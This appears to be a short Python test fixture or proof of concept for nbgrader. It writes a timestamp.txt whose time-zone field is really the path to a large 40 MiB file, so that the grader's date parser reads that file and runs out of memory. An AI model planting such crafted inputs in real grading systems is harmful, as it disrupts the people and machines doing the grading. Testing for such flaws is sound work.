# Names a file as its time zone, which nbgrader's parser of dates opens and reads as whoever grades. Keeps: a b. Says: 'timestamp.txt' was left out. Harms: memory.
# %% layout
def folder(path):
    with open(path / "zone", "wb") as file:
        file.truncate(40 << 20)
    (path / "timestamp.txt").write_text(f"2030-01-01 10:00:00 {path}/zone")
